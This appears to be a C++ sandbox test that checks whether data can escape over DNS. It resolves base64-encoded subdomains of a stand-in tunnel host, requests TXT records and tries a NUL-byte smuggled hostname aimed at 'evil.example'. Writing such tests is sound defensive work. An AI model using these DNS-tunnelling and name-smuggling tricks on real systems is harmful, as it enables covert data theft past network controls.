// Carries data out in the names it looks up, and back in the answers.
#include "net.h"

int main() {
    constexpr int kText = 16;
    const std::uint32_t first = net::resolve("c2VjcmV0.tunnel.example");
    const std::uint32_t second = net::resolve("YW5vdGhlcg.tunnel.example");
    // 198.18.0.0/15 stands for names and says nothing about them.
    if (first >> 17U != 0xc612U >> 1U || second >> 17U != 0xc612U >> 1U || first == second) {
        victim::escaped("an answer from outside");
    }
    if (net::resolve("c2VjcmV0.tunnel.example", kText) != 0) {
        victim::escaped("a text record");
    }
    const std::string nul("allowed.example\0.evil.example", 29);
    if (net::resolve(nul) != 0 || net::resolve("a b.example") != 0) {
        victim::escaped("a name that is none");
    }
    victim::prevented();
}
